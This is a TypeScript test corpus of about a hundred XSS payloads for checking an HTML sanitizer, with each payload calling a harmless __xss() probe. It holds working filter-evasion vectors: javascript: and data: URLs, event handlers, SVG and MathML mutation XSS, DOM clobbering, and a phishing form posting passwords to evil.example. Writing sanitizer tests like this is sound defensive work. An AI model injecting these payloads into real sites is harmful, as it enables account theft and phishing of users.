/**
 * Known XSS payloads, written for this project after the public cheat sheets (OWASP XSS filter
 * evasion, PortSwigger's XSS cheat sheet, DOMPurify's own mXSS reports). Every payload that could
 * run calls `__xss('<id>')`, which the probe in xss-harness.ts turns into a recorded execution.
 */
export interface XssPayload {
  id: string;
  html: string;
}

const B64_SCRIPT = 'PHNjcmlwdD5fX3hzcygiZGF0YS1iNjQiKTwvc2NyaXB0Pg=='; // <script>__xss("data-b64")</script>
const B64_SVG = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX194c3MoMSkiLz4='; // <svg onload=…/>

const list: Array<[string, string]> = [
  // Script elements and parser confusion
  ['script', `<script>__xss('script')</script>`],
  ['script-nested', `<scr<script>ipt>__xss('script-nested')</scr</script>ipt>`],
  ['script-double-open', `<<script>__xss('script-double-open')//<</script>`],
  ['attr-breakout', `"><img src=x onerror="__xss('attr-breakout')">`],
  ['comment-breakout', `<!--><img src=x onerror="__xss('comment-breakout')">-->`],
  ['cdata', `<![CDATA[><img src=x onerror="__xss('cdata')">]]>`],
  ['unterminated-img', `<img src=x:x onerror="__xss('unterminated-img')"//`],
  ['uppercase-handler', `<IMG SRC=x ONERROR="__xss('uppercase-handler')">`],
  // Event handlers
  ['img-onerror', `<img src=x onerror="__xss('img-onerror')">`],
  ['svg-onload', `<svg onload="__xss('svg-onload')"></svg>`],
  ['body-onload', `<body onload="__xss('body-onload')">`],
  ['details-ontoggle', `<details open ontoggle="__xss('details-ontoggle')"><summary>x</summary></details>`],
  ['div-onmouseover', `<div onmouseover="__xss('div-onmouseover')">hover</div>`],
  ['a-onclick', `<a href="#" onclick="__xss('a-onclick')">click</a>`],
  ['input-autofocus', `<input autofocus onfocus="__xss('input-autofocus')">`],
  ['select-autofocus', `<select autofocus onfocus="__xss('select-autofocus')"><option>1</option></select>`],
  ['textarea-autofocus', `<textarea autofocus onfocus="__xss('textarea-autofocus')"></textarea>`],
  ['marquee-onstart', `<marquee onstart="__xss('marquee-onstart')">m</marquee>`],
  ['video-source-onerror', `<video><source onerror="__xss('video-source-onerror')"></video>`],
  ['audio-onerror', `<audio src=x onerror="__xss('audio-onerror')"></audio>`],
  ['frameset-onload', `<frameset onload="__xss('frameset-onload')"></frameset>`],
  ['p-onanimationstart', `<p style="animation-name:x" onanimationstart="__xss('p-onanimationstart')">a</p>`],
  // javascript: in every attribute that takes a URL
  ['a-href-js', `<a href="javascript:__xss('a-href-js')">x</a>`],
  ['a-href-js-case', `<a href="JaVaScRiPt:__xss('a-href-js-case')">x</a>`],
  ['a-href-js-space', `<a href="   javascript:__xss('a-href-js-space')">x</a>`],
  ['a-href-js-tab', `<a href="java&#x09;script:__xss('a-href-js-tab')">x</a>`],
  ['a-href-js-newline', `<a href="java&#10;script:__xss('a-href-js-newline')">x</a>`],
  ['a-href-js-ctrl', `<a href="&#1;javascript:__xss('a-href-js-ctrl')">x</a>`],
  [
    'a-href-js-entities',
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss('a-href-js-entities')">x</a>`,
  ],
  ['a-href-js-colon-entity', `<a href="javascript&colon;__xss('a-href-js-colon-entity')">x</a>`],
  ['a-href-js-hex', `<a href="&#x6A;avas&#99;ript:__xss('a-href-js-hex')">x</a>`],
  ['a-href-vbscript', `<a href="vbscript:__xss('a-href-vbscript')">x</a>`],
  ['img-src-js', `<img src="javascript:__xss('img-src-js')">`],
  ['img-srcset-js', `<img src="/ok.png" srcset="javascript:__xss('img-srcset-js') 1x">`],
  ['iframe-src-js', `<iframe src="javascript:__xss('iframe-src-js')"></iframe>`],
  ['object-data-js', `<object data="javascript:__xss('object-data-js')"></object>`],
  ['embed-src-js', `<embed src="javascript:__xss('embed-src-js')">`],
  ['form-action-js', `<form action="javascript:__xss('form-action-js')"><input type=submit value=go></form>`],
  ['button-formaction-js', `<button formaction="javascript:__xss('button-formaction-js')">go</button>`],
  ['input-image-src-js', `<input type="image" src="javascript:__xss('input-image-src-js')">`],
  ['video-poster-js', `<video poster="javascript:__xss('video-poster-js')"></video>`],
  [
    'table-background-js',
    `<table background="javascript:__xss('table-background-js')"><tr><td>x</td></tr></table>`,
  ],
  ['blockquote-cite-js', `<blockquote cite="javascript:__xss('blockquote-cite-js')">q</blockquote>`],
  ['base-href-js', `<base href="javascript:__xss('base-href-js')//"><a href="x">x</a>`],
  ['meta-refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta-refresh-js')">`],
  ['isindex-action-js', `<isindex action="javascript:__xss('isindex-action-js')" type=image>`],
  [
    'area-href-js',
    `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:__xss('area-href-js')"></map>`,
  ],
  ['img-lowsrc-js', `<img src="/ok.png" lowsrc="javascript:__xss('img-lowsrc-js')">`],
  ['img-dynsrc-js', `<img src="/ok.png" dynsrc="javascript:__xss('img-dynsrc-js')">`],
  ['img-longdesc-js', `<img src="/ok.png" longdesc="javascript:__xss('img-longdesc-js')">`],
  ['a-ping-js', `<a href="/promotions" ping="javascript:__xss('a-ping-js')">p</a>`],
  ['object-codebase-js', `<object codebase="javascript:__xss('object-codebase-js')"></object>`],
  ['applet-code', `<applet code="javascript:__xss('applet-code')"></applet>`],
  ['video-src-js', `<video src="javascript:__xss('video-src-js')"></video>`],
  ['source-src-js', `<video><source src="javascript:__xss('source-src-js')"></video>`],
  ['track-src-js', `<video><track src="javascript:__xss('track-src-js')"></video>`],
  ['link-stylesheet-js', `<link rel=stylesheet href="javascript:__xss('link-stylesheet-js')">`],
  ['script-src-data', `<script src="data:text/javascript,__xss('script-src-data')"></script>`],
  ['q-cite-js', `<q cite="javascript:__xss('q-cite-js')">q</q>`],
  [
    'del-cite-js',
    `<del cite="javascript:__xss('del-cite-js')">d</del><ins cite="javascript:__xss('ins')">i</ins>`,
  ],
  [
    'td-background-js',
    `<table><tr><td background="javascript:__xss('td-background-js')">x</td></tr></table>`,
  ],
  ['body-background-js', `<body background="javascript:__xss('body-background-js')">`],
  ['html-manifest', `<html manifest="javascript:__xss('html-manifest')">`],
  ['svg-image-href', `<svg><image href="javascript:__xss('svg-image-href')"/></svg>`],
  ['svg-feimage', `<svg><filter><feImage xlink:href="javascript:__xss('svg-feimage')"/></filter></svg>`],
  ['a-xlink-html', `<a xlink:href="javascript:__xss('a-xlink-html')">x</a>`],
  // data: URLs
  ['a-href-data-html', `<a href="data:text/html,<script>__xss('a-href-data-html')</script>">x</a>`],
  ['a-href-data-b64', `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`],
  ['iframe-src-data', `<iframe src="data:text/html;base64,${B64_SCRIPT}"></iframe>`],
  ['object-data-svg', `<object data="data:image/svg+xml;base64,${B64_SVG}"></object>`],
  ['img-src-data-html', `<img src="data:text/html,<script>__xss('img-src-data-html')</script>">`],
  ['link-import-data', `<link rel=import href="data:text/html,<script>__xss('link-import-data')</script>">`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>parent.__xss('iframe-srcdoc')</script>"></iframe>`],
  // SVG
  ['svg-script', `<svg><script>__xss('svg-script')</script></svg>`],
  ['svg-a-xlink', `<svg><a xlink:href="javascript:__xss('svg-a-xlink')"><text x=9 y=9>x</text></a></svg>`],
  [
    'svg-animate-onbegin',
    `<svg><animate onbegin="__xss('svg-animate-onbegin')" attributeName=x dur=1s></svg>`,
  ],
  [
    'svg-set-href',
    `<svg><a><set attributeName=href to="javascript:__xss('svg-set-href')"/><text>x</text></a></svg>`,
  ],
  ['svg-use-data', `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"/></svg>`],
  [
    'svg-foreignobject',
    `<svg><foreignObject><iframe srcdoc="<script>parent.__xss('svg-foreignobject')</script>"></iframe></foreignObject></svg>`,
  ],
  ['svg-style-mxss', `<svg></p><style><a id="</style><img src=1 onerror=__xss('svg-style-mxss')>">`],
  // MathML and mutation XSS (namespace confusion)
  ['math-href', `<math href="javascript:__xss('math-href')">x</math>`],
  [
    'math-maction',
    `<math><maction actiontype="statusline" xlink:href="javascript:__xss('math-maction')">x</maction></math>`,
  ],
  [
    'mxss-mglyph-style',
    `<math><mtext><table><mglyph><style><img src=x onerror="__xss('mxss-mglyph-style')">`,
  ],
  [
    'mxss-form-math',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="__xss('mxss-form-math')">`,
  ],
  [
    'mxss-mglyph-comment',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss('mxss-mglyph-comment')&gt;">`,
  ],
  ['mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=__xss('mxss-noscript')>"></noscript>`],
  ['mxss-noembed', `<noembed><img title="</noembed><img src=x onerror=__xss('mxss-noembed')>"></noembed>`],
  [
    'mxss-textarea',
    `<textarea><img title="</textarea><img src=x onerror=__xss('mxss-textarea')>"></textarea>`,
  ],
  ['mxss-xmp', `<xmp><img title="</xmp><img src=x onerror=__xss('mxss-xmp')>"></xmp>`],
  ['mxss-listing', `<listing>&lt;img src=x onerror=__xss('mxss-listing')&gt;</listing>`],
  // <style>, <template>, <noscript> tricks
  ['style-breakout', `<style></style><img src=x onerror="__xss('style-breakout')"></style>`],
  ['style-import-js', `<style>@import 'javascript:__xss("style-import-js")';</style>`],
  ['style-attr-url', `<p style="background:url(javascript:__xss('style-attr-url'))">x</p>`],
  ['style-attr-expression', `<p style="width:expression(__xss('style-attr-expression'))">x</p>`],
  ['template-img', `<template><img src=x onerror="__xss('template-img')"></template>`],
  ['template-script', `<template><script>__xss('template-script')</script></template>`],
  ['noscript-img', `<noscript><img src=x onerror="__xss('noscript-img')"></noscript>`],
  // DOM clobbering and phishing shapes
  ['clobber-img-name', `<img name="getElementById" src="/pic.png"><img name="cookie" src="/pic.png">`],
  ['clobber-a-id', `<a id="__xss" href="/promotions">p</a><form name="location"></form>`],
  [
    'phishing-form',
    `<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>`,
  ],
  ['object-scriptlet', `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`],
  ['tracking-pixel', `<p>Hi</p><img src="https://tracker.example/p.gif?u=1" width="1" height="1">`],
  ['link-target-self', `<a href="https://evil.example/" target="_self">x</a>`],
  ['link-opener', `<a href="https://evil.example/" target="_blank" rel="opener">x</a>`],
];

export const XSS_CORPUS: readonly XssPayload[] = list.map(([id, html]) => ({ id, html }));
